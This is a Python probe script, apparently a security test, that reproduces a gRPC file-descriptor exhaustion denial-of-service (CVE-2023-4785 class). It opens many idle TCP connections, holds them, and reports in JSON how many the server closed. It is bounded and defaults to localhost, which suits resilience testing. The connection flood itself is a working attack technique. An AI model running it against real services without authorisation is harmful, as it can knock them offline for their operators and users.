#!/usr/bin/python3
"""File-descriptor exhaustion (CVE-2023-4785 class): open --connections idle TCP connections to
the gRPC port (they never send a byte), hold them --hold seconds, then close them all.

Bounded in count and time. Raises this process's own descriptor limit to fit the connections.

Usage: fd_exhaustion.py --port PORT [--host 127.0.0.1] [--connections 1100] [--hold 3]
"""
import argparse
import json
import resource
import socket
import time


def closed_by_peer(sock):
    sock.setblocking(False)
    for _ in range(64):  # Bound: 4 MiB of whatever the server sent.
        try:
            if sock.recv(65536) == b"":
                return True
        except BlockingIOError:
            return False
        except OSError:
            return True
    return False


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, default=1100)
    parser.add_argument("--hold", type=float, default=3.0)
    args = parser.parse_args()

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = min(hard, args.connections + 64)
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, hard))
    sockets, failed = [], 0
    start = time.monotonic()
    for _ in range(args.connections):
        try:
            sockets.append(socket.create_connection((args.host, args.port), timeout=2))
        except OSError:
            failed += 1
    opened = time.monotonic() - start
    time.sleep(args.hold)
    # Closed by the server while held: past what the server sent first (its HTTP/2 settings),
    # a read returns b"" (or fails) at once.
    closed_by_server = sum(1 for sock in sockets if closed_by_peer(sock))
    for sock in sockets:
        sock.close()
    print(json.dumps({"probe": "fd_exhaustion", "connected": len(sockets), "failed": failed,
                      "seconds_to_open": round(opened, 2), "held_seconds": args.hold,
                      "closed_by_server_while_held": closed_by_server}))


if __name__ == "__main__":
    main()
